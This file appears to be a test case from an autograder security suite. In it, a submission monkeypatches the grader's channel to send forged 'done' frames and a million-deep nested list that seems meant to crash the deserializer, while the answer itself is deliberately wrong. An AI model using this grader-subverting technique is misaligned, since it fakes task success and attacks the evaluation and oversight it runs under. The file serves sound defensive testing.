# ---
# attack: 'Answers with a list nested a million times, and one that is nested just too deep.'
# class: forging or flooding wire frames and handles
# sandboxes: [namespaces, off]
# detected: could not be read
# ---
# %% before="q1"
import struct

from autograder.candidate.channel import Channel

nested = iter([b"\x92\xa4done" + b"\x92\0" * 40 + b"\xc0", b"\x92\xa4done" + b"\x91" * 10**6 + b"\0"])
send = Channel.send


def deep(self, header, payload, *rest):
    if type(header).__name__ == "Ran":
        return send(self, header, payload, *rest)
    head = next(nested)
    self.sock.sendall(struct.pack("<IQ", len(head), 0) + head)


Channel.send = deep

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
